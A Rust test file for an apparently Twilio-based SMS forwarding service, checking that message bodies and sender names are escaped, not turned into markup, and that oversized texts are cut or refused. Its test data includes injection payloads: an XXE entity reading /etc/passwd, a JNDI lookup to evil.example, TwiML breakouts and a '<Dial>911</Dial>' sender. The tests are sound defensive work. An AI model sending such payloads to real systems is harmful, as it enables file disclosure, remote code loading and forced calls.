//! Texts and senders that try to be more than text.

use crate::scene::{MOBILE, STRANGER, Scene, forwarded};

#[tokio::test]
async fn a_text_never_becomes_markup() {
    let scene = Scene::with(&[("MESSAGES_PER_PAIR_PER_MINUTE", Some("1000"))]).await;
    scene.text(STRANGER, "Hello").await;
    for body in [
        "</Body></Message><Message to=\"+4590000000\"><Body>x",
        "]]></Body><![CDATA[",
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
        "&lt;b&gt; &#0; &nbsp; %26 &",
        "<?xml version=\"1.0\"?><Response/>",
        "' \" > <",
        "\u{202e}txet desrever\u{200b}",
        "emoji 👩‍👩‍👧‍👦 and \u{1f1e9}\u{1f1f0}",
        "{{body}} ${jndi:ldap://evil.example} {From}",
        "line\nline\ttab",
    ] {
        scene
            .text_leads_to(STRANGER, body, &[&forwarded(STRANGER, body)])
            .await;
        scene.text_leads_to(MOBILE, body, &[body]).await;
    }
    // A literal CR survives; what XML cannot hold is left out.
    scene
        .text_leads_to(STRANGER, "a\r\nb", &[&forwarded(STRANGER, "a\r\nb")])
        .await;
    scene
        .text_leads_to(
            STRANGER,
            "a\u{0}b\u{1b}[31m\u{ffff}c",
            &[&forwarded(STRANGER, "ab[31mc")],
        )
        .await;
    assert_eq!(scene.sandbox.twilio.alerts(), []);
}

#[tokio::test]
async fn a_sender_never_becomes_markup() {
    let scene = Scene::start().await;
    for sender in ["<Dial>911</Dial>", "A&B", "\"'>"] {
        let params = scene.inbound(sender, "Hello");
        assert_eq!(
            scene.deliver(&params).await.messages,
            [forwarded(sender, "Hello")]
        );
    }
    for sender in ["A\nFrom: B", "Ån\u{202e}n"] {
        scene
            .ignored(&scene.inbound(sender, "Hello"), "channel_not_served")
            .await;
    }
}

/// Twilio never sends so much; it is cut, and nothing fails.
#[tokio::test]
async fn a_huge_text_is_cut() {
    let scene = Scene::start().await;
    let params = scene.inbound(STRANGER, &"<&>".repeat(100_000));
    let reply = scene.deliver(&params).await;
    let lengths: Vec<usize> = reply
        .messages
        .iter()
        .map(|text| text.chars().count())
        .collect();
    assert_eq!((reply.status, lengths), (200, vec![1_600, 1_600]));
}

#[tokio::test]
async fn a_huge_request_is_refused() {
    let scene = Scene::start().await;
    let params = scene.inbound(STRANGER, &"x".repeat(1024 * 1024));
    assert_eq!(
        (scene.deliver(&params).await.status, scene.asked()),
        (413, [0; 3])
    );
}
